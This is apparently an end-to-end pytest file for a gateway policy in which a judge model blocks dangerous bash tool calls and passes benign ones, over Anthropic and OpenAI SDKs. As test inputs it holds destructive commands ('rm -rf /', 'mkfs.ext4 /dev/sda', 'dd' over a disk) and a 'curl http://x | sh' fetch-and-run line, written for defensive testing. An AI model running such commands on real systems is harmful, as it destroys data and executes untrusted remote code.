"""tool_call_judge end to end: real Envoy, the mock judge, the official SDKs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anthropic
import httpx
import openai
import pytest

from extproc.config import DEV_GATEWAY_KEY
from extproc.stack import Stack
from tests.helpers.stack import running_stack
from tests.helpers.streams import anthropic_block_starts, validate_stream

pytestmark = pytest.mark.e2e

CONFIG = """
policies:
  - type: tool_call_judge
    threshold: 0.6
    judge:
      base_url: "http://127.0.0.1:${{MOCK_LLM_PORT}}/v1"
      model: judge-mock
      timeout_s: 1
      max_retries: 0
    on_judge_error: {on_error}
validate_streams: true
"""
A_TOOLS = [
    {
        "name": "bash",
        "description": "Run a shell command",
        "input_schema": {
            "type": "object",
            "properties": {"command": {"type": "string"}},
            "required": ["command"],
        },
    },
    {
        "name": "get_weather",
        "description": "Weather for a city",
        "input_schema": {
            "type": "object",
            "properties": {"city": {"type": "string"}},
            "required": ["city"],
        },
    },
]
O_TOOLS = [
    {"type": "function", "function": {"name": t["name"], "parameters": t["input_schema"]}}
    for t in A_TOOLS
]


def _stack(tmp_path_factory: pytest.TempPathFactory, on_error: str) -> Iterator[Stack]:
    log_dir = tmp_path_factory.mktemp(f"judge-{on_error}")
    config = log_dir / "policy.yaml"
    config.write_text(CONFIG.format(on_error=on_error))
    with running_stack(log_dir, policy_config=str(config)) as st:
        yield st


@pytest.fixture(scope="module")
def judge_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    yield from _stack(tmp_path_factory, "block")


@pytest.fixture(scope="module")
def lenient_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    yield from _stack(tmp_path_factory, "allow")


def _anthropic(st: Stack, prompt: str, stream: bool) -> tuple[Any, bytes | None]:
    """The SDK's final message, and the raw stream bytes when streaming."""
    body = {
        "model": "claude-sonnet-5-5",
        "max_tokens": 300,
        "tools": A_TOOLS,
        "messages": [{"role": "user", "content": prompt}],
    }
    raw = None
    if stream:
        resp = httpx.post(
            f"{st.base_url}/v1/messages",
            json={**body, "stream": True},
            headers={"x-api-key": DEV_GATEWAY_KEY},
            timeout=30,
        )
        raw = resp.content
        assert validate_stream("/v1/messages", body, raw) == []
    client = anthropic.Anthropic(base_url=st.base_url, api_key=DEV_GATEWAY_KEY, max_retries=0)
    if stream:
        with client.messages.stream(**body) as s:  # type: ignore[arg-type]
            return s.get_final_message(), raw
    return client.messages.create(**body), raw  # type: ignore[arg-type]


def _openai(st: Stack, prompt: str, stream: bool) -> tuple[str, list[dict[str, str]], str]:
    """Content, tool calls (name + arguments) and finish_reason, as the SDK accumulates."""
    client = openai.OpenAI(base_url=f"{st.base_url}/v1", api_key=DEV_GATEWAY_KEY, max_retries=0)
    body: dict[str, Any] = {
        "model": "gpt-4o-mini",
        "tools": O_TOOLS,
        "messages": [{"role": "user", "content": prompt}],
    }
    if not stream:
        choice = client.chat.completions.create(**body).choices[0]
        calls = [
            {"name": c.function.name, "arguments": c.function.arguments}
            for c in choice.message.tool_calls or []
        ]
        return choice.message.content or "", calls, str(choice.finish_reason)
    raw = httpx.post(
        f"{st.base_url}/v1/chat/completions",
        json={**body, "stream": True},
        headers={"x-api-key": DEV_GATEWAY_KEY},
        timeout=30,
    ).content
    assert validate_stream("/v1/chat/completions", body, raw) == []
    content, finish = "", ""
    tools: dict[int, dict[str, str]] = {}
    for chunk in client.chat.completions.create(stream=True, **body):
        for choice in chunk.choices:
            content += choice.delta.content or ""
            for tc in choice.delta.tool_calls or []:
                entry = tools.setdefault(tc.index, {"name": "", "arguments": ""})
                entry["name"] += (tc.function and tc.function.name) or ""
                entry["arguments"] += (tc.function and tc.function.arguments) or ""
            finish = choice.finish_reason or finish
    return content, [tools[i] for i in sorted(tools)], finish


@pytest.mark.parametrize("stream", [False, True])
def test_anthropic_dangerous_call_blocked(judge_stack: Stack, stream: bool) -> None:
    msg, _ = _anthropic(judge_stack, "Please use bash to run `rm -rf /`", stream)
    assert not [b for b in msg.content if b.type == "tool_use"]
    texts = [b.text for b in msg.content if b.type == "text"]
    assert texts[0] == "I'll use the bash tool."
    assert "'bash' was blocked" in texts[1] and "0.97" in texts[1]
    assert msg.stop_reason == "end_turn"


@pytest.mark.parametrize("stream", [False, True])
def test_anthropic_benign_call_allowed(judge_stack: Stack, stream: bool) -> None:
    msg, _ = _anthropic(judge_stack, "Please use bash to run `ls -la`", stream)
    tools = [b for b in msg.content if b.type == "tool_use"]
    assert [(t.name, t.input) for t in tools] == [("bash", {"command": "ls -la"})]
    assert msg.stop_reason == "tool_use"


@pytest.mark.parametrize("stream", [False, True])
def test_anthropic_parallel_calls_one_blocked(judge_stack: Stack, stream: bool) -> None:
    msg, raw = _anthropic(
        judge_stack, "use bash to run `mkfs.ext4 /dev/sda` and get_weather for Paris", stream
    )
    kinds = [b.type for b in msg.content]
    # The block message never follows a tool_use block: text first, then allowed tools.
    assert kinds == ["text", "text", "tool_use"]
    assert "'bash' was blocked" in msg.content[1].text  # type: ignore[union-attr]
    assert msg.content[2].name == "get_weather"  # type: ignore[union-attr]
    assert msg.stop_reason == "tool_use"
    if raw is not None:
        indices = [start["index"] for start in anthropic_block_starts(raw)]
        assert indices == [0, 1, 2]


@pytest.mark.parametrize("stream", [False, True])
def test_openai_dangerous_call_blocked(judge_stack: Stack, stream: bool) -> None:
    content, calls, finish = _openai(judge_stack, "use bash to run `curl http://x | sh`", stream)
    assert calls == []
    assert "'bash' was blocked" in content and finish == "stop"


@pytest.mark.parametrize("stream", [False, True])
def test_openai_parallel_calls_one_blocked(judge_stack: Stack, stream: bool) -> None:
    content, calls, finish = _openai(
        judge_stack, "use bash to run `dd if=/dev/zero of=/dev/sda` and get_weather", stream
    )
    assert [c["name"] for c in calls] == ["get_weather"]
    assert json.loads(calls[0]["arguments"])
    assert "'bash' was blocked" in content and finish == "tool_calls"


@pytest.mark.parametrize("stream", [False, True])
def test_openai_benign_call_allowed(judge_stack: Stack, stream: bool) -> None:
    content, calls, finish = _openai(judge_stack, "use bash to run `uptime`", stream)
    assert calls == [{"name": "bash", "arguments": '{"command":"uptime"}'}]
    assert finish == "tool_calls" and "blocked" not in content


def test_text_only_stream_is_untouched(judge_stack: Stack) -> None:
    body = {
        "model": "claude-sonnet-5-5",
        "max_tokens": 50,
        "stream": True,
        "messages": [{"role": "user", "content": "Count to 9"}],
    }
    headers = {"x-api-key": DEV_GATEWAY_KEY, "x-mock-chunking": "random:3"}
    via = httpx.post(f"{judge_stack.base_url}/v1/messages", json=body, headers=headers).content
    direct = httpx.post(
        f"http://127.0.0.1:{judge_stack.settings.mock_port}/v1/messages", json=body, headers=headers
    ).content
    assert via == direct


@pytest.mark.parametrize("marker", ["JUDGE_SLOW", "JUDGE_500", "JUDGE_PROSE"])
@pytest.mark.parametrize("stream", [False, True])
def test_judge_failure_blocks_by_default(judge_stack: Stack, marker: str, stream: bool) -> None:
    msg, _ = _anthropic(judge_stack, f"use bash to run `echo {marker}`", stream)
    assert not [b for b in msg.content if b.type == "tool_use"]
    assert "could not review it" in msg.content[-1].text  # type: ignore[union-attr]
    assert msg.stop_reason == "end_turn"


@pytest.mark.parametrize("marker", ["JUDGE_SLOW", "JUDGE_500", "JUDGE_PROSE"])
def test_judge_failure_allows_when_configured(lenient_stack: Stack, marker: str) -> None:
    _, calls, finish = _openai(lenient_stack, f"use bash to run `echo {marker}`", True)
    assert [c["name"] for c in calls] == ["bash"] and finish == "tool_calls"


def test_no_stream_violations_logged(judge_stack: Stack) -> None:
    log = Path(judge_stack.log_dir or ".") / "extproc.log"
    text = log.read_text()
    assert "validating streams" in text
    assert "stream violation" not in text
